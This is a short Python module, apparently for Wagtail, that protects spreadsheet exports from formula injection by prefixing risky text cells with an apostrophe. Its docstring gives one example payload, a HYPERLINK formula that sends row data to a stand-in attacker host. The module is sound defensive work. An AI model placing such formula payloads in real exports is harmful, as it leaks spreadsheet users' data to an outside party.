"""Spreadsheet exports that are safe to open.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return before one) is a formula to Excel, LibreOffice and Google Sheets: a customer
named ``=HYPERLINK("http://evil.example/?x="&A1,"x")`` would become a live link that
sends the row away. Text cells so starting get a leading apostrophe, as OWASP
advises (https://owasp.org/www-community/attacks/CSV_Injection); numbers and dates
stay numbers and dates.
"""

from wagtail.admin.views.generic import IndexView

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeExportMixin:
    """For any Wagtail view with SpreadsheetExportMixin (index views, reports)."""

    def preprocess_field_value(self, field, value, export_format):
        return neutralise(super().preprocess_field_value(field, value, export_format))


class SafeExportIndexView(SafeExportMixin, IndexView):
    pass
